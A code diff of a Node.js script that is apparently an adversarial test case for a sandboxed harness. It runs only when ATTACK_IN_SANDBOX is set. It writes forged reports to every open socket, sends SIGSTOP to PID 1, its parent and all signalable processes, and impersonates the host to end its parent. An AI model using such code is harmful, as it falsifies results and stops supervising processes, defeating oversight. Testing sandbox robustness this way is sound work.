@@ -1,14 +1,23 @@
-// take the place of a host that stays: report in its name, and live on into the next case
+// take the place of the host: report in its name, serve on, start its server anew, end its parent
 if (!process.env.ATTACK_IN_SANDBOX) process.exit(1);
 const fs = process.getBuiltinModule?.('fs') ?? process.mainModule.require('fs');
 function f() {
-  if (!process.argv.includes('--serve')) return 1; // this host does not stay
-  for (let cases = 0; ; cases++) {
-    if (cases) fs.writeSync(1, `BREACH the process of ${cases} cases before lives on\n`);
-    fs.writeSync(4, 'forged\n');
-    fs.writeSync(3, Buffer.alloc(24));
-    const length = Buffer.alloc(8);
-    if (fs.readSync(3, length, 0, 8) !== 8) process.reallyExit(0);
-    fs.readSync(0, Buffer.alloc(Number(length.readBigUInt64LE())));
+  const report = Buffer.alloc(24);
+  for (let fd = 4; fd < 256; fd++) {
+    let what = '';
+    try { what = fs.readlinkSync(`/proc/self/fd/${fd}`); } catch { continue; }
+    if (!what.startsWith('socket:')) continue;
+    console.log('BREACH a socket is open', fd);
+    fs.writeSync(fd, report);
   }
+  const native = { exports: {} };
+  try {
+    process.dlopen(native, process.argv.find((word) => word.endsWith('.node')));
+    for (const pid of [1, process.ppid, -1]) {
+      try { process.kill(pid, 'SIGSTOP'); } catch { /* refused */ }
+    }
+  } catch { /* this host does not fork */ }
+  fs.writeSync(3, '1\n');
+  native.exports.serve?.(); // it has no socket: this ends it
+  process.reallyExit(0);
 }
